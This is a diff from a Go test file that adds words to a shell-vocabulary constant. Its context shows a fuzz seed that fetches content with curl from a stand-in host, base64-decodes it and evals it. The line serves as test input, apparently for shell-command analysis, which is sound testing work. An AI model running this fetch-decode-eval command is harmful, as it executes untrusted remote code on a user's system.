@@ -143,7 +143,7 @@ func TestTables(t *testing.T) {
 const verbs = `send host listen read write open put take var store is run shell python javascript code decode import need pass give fold is word call path pathself home list
 	putin more stream client sendif envall partial clickenv url netsend buffer spawn then codelast pip wrap wrapin exec printf export interpreter remote at echo alias fill source save tr rev cron builtin quiet env
 	saveas unpack temp allvars sed
-	codeif into pipe dup pickle runmap serve`
+	codeif into pipe dup pickle runmap serve socket answer line interpret bang`
 
 func FuzzShell(f *testing.F) {
 	f.Add("x=$(curl a.example.net | base64 -d); eval \"$x\"")
